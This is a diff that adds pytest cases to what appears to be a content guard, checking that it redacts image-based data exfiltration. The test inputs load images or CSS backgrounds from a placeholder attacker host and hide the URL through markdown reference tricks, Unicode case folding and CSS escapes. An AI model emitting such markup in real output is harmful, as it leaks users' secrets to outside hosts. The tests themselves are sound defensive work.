@@ -152,3 +152,26 @@ def test_adversarial_repetition_stays_linear(piece: str) -> None:
     started = time.monotonic()
     Guard(GuardConfig(unicode=None, pii=None)).check(text)
     assert time.monotonic() - started < 10  # generous for a loaded 2-core machine; linear is ~0.1 s
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a]\n\n> [a]: https://evil.example/SECRET.png",  # a definition inside a block quote
+        "- ![a]\n- [a]: https://evil.example/SECRET.png",  # inside list items
+        "![a][r  x]\n\n[R x]: https://evil.example/SECRET.png",  # labels match with white space collapsed
+        "![a][\u1e9e]\n\n[ss]: https://evil.example/SECRET.png",  # and Unicode case folding (capital sharp s)
+        '<p style="background:u\\rl(https://evil.example/SECRET)">x</p>',  # CSS escapes, as a browser reads them
+        '<div style="background:\\75rl(https://evil.example/?d=S)">x</div>',
+        '<div style="background:\\000075 rl(https://evil.example/?d=S)">x</div>',
+    ],
+)
+def test_images_loaded_through_spellings_a_browser_or_commonmark_accepts(text: str) -> None:
+    result = Guard().check(text)
+    assert result.decision is Decision.REDACTED, result.findings
+    assert [f.rule for f in result.findings] == ["filter.exfil-image"]
+
+
+def test_a_reference_definition_that_is_not_an_images_and_plain_css_stay_allowed() -> None:
+    for text in ('<p style="color:red">ok</p>', "[note]: not a url", "> quoted [text]: words"):
+        assert Guard().check(text).decision is Decision.ALLOWED, text
